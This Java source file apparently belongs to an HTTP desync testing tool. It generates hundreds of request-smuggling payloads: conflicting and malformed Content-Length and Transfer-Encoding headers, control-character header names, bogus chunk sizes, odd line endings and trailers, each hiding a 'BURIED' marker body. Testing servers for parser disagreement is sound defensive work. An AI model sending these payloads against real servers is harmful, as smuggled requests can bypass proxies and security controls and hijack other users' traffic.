package dev.usher.attack;

import dev.usher.attack.Framing.Variant;
import java.util.ArrayList;
import java.util.List;

/** Bodies whose end two parsers may see in different places. */
final class Bodies {
  private static final String CHUNKED = "Transfer-Encoding: chunked\r\n";

  // The words are separated by bars.
  private static final String LENGTHS =
      "0|+0|-0|-1|0x0|00| 0|0 |0,0|0, 5|5, 0|0;|\"0\"|0.0|1e1|\u0660|0\t|0\u000b|0\u000c|0\r"
          + "|18446744073709551616|4294967296|9223372036854775808|-18446744073709551616|0_0|0b0"
          + "|| |null|NaN";

  private static final String LENGTH_NAMES =
      "Content-Length | Content-Length|Content_Length|Content-Length\t|Content-Length\0"
          + "|Content-Length\r|\u000bContent-Length|Content-Length\u00a0|Content Length"
          + "|X\nContent-Length";

  private static final String CODINGS =
      "chunked|Chunked|chunked | chunked|\tchunked|chunked\t|xchunked|chunkedx|chunked, identity"
          + "|identity, chunked|identity|chunked, chunked|chunked,|,chunked|gzip, chunked"
          + "|chunked, gzip|\"chunked\"|chunked;q=1|chunked\u000b|\u000bchunked|chunked\0|\0chunked"
          + "|chunked\r|ch\runked|chunKed|chunked\u00a0|cow||x\n chunked|\r\n chunked|chunked\r\n "
          + "|\u017fhunked|chunked\u007f";

  private static final String CODING_NAMES =
      "Transfer-Encoding | Transfer-Encoding|Transfer_Encoding|Transfer-Encoding\t"
          + "|Transfer-Encoding\0|Transfer-Encoding\r|X: y\nTransfer-Encoding"
          + "|X: y\rTransfer-Encoding|Transfer\u00ad-Encoding|TRANSFER-ENCODING"
          + "|\0Transfer-Encoding|Foo\r\nTransfer-Encoding";

  private static final String SIZES =
      "0|00|0x0|+0|-0| 0|0 |0\t|0;|0;a|0;a=b|0;a=\"\r\n\"|0\r|0\n|\n0|5 5|5;\n|100000000|100000005"
          + "|10000000000000000|ffffffffffffffff|-5|5\0|5;x\r|5;x\n|g||0_0|5\u000b|\u0665"
          + "|5;a=\"b\r\"|5;\0|7fffffff|80000000";

  private static final String ENDS = "|\n|\r|X\r\n|\r\r\n| \r\n|\n\n|\r\n\r\n|XX|\0\r\n";

  private static final String TRAILERS =
      "Content-Length: 50|Transfer-Encoding: chunked|Host: t|X|: y| X: y|X : y|X: a\nb: c|X: a\rb"
          + "|X: \0|Usher-Pass: x|\r|X: y\r\n folded";

  private Bodies() {}

  static List<Variant> variants() {
    List<Variant> all = new ArrayList<>();
    lengths(all);
    codings(all);
    chunks(all);
    return all;
  }

  static String[] words(String words) {
    return words.split("\\|", -1);
  }

  private static void lengths(List<Variant> all) {
    for (String value : words(LENGTHS)) {
      String line = "Content-Length: " + value + "\r\n";
      all.add(Variant.post(line, "BURIED"));
      all.add(Variant.post(line + "Content-Length: 5\r\n", "BURIED"));
      all.add(Variant.post("Content-Length: 5\r\n" + line, "BURIED"));
      all.add(Variant.post(line + CHUNKED, "0\r\n\r\nBURIED"));
    }
    for (String name : words(LENGTH_NAMES)) {
      all.add(Variant.post(name + ": 5\r\n", "BURIED"));
      all.add(Variant.post("Content-Length: 0\r\n" + name + ": 5\r\n", "BURIED"));
    }
  }

  private static void codings(List<Variant> all) {
    String body = "0\r\n\r\nBURIED";
    for (String value : words(CODINGS)) {
      String line = "Transfer-Encoding: " + value + "\r\n";
      all.add(Variant.post(line, body));
      all.add(Variant.post(line + "Content-Length: 5\r\n", body));
      all.add(Variant.post("Content-Length: 5\r\n" + line, body));
      all.add(Variant.post(line + "Transfer-Encoding: identity\r\n", body));
      all.add(Variant.post("Transfer-Encoding: identity\r\n" + line, body));
      all.add(new Variant("POST TARGET HTTP/1.0", line, body));
    }
    for (String name : words(CODING_NAMES)) {
      all.add(Variant.post(name + ": chunked\r\nContent-Length: 5\r\n", body));
      all.add(Variant.post(name + ": chunked\r\n", body));
    }
  }

  private static void chunks(List<Variant> all) {
    for (String size : words(SIZES)) {
      for (String end : words("\r\n|\n|\r|")) {
        all.add(Variant.post(CHUNKED, size + end + "hello\r\n0\r\n\r\nBURIED"));
      }
    }
    for (String end : words(ENDS)) {
      all.add(Variant.post(CHUNKED, "5\r\nhello" + end + "0\r\n\r\nBURIED"));
      all.add(Variant.post(CHUNKED, "0\r\nX: y" + end + "\r\nBURIED"));
      all.add(Variant.post(CHUNKED, "0" + end + "\r\n\r\nBURIED"));
    }
    for (String trailer : words(TRAILERS)) {
      all.add(Variant.post(CHUNKED, "0\r\n" + trailer + "\r\n\r\nBURIED"));
    }
  }
}
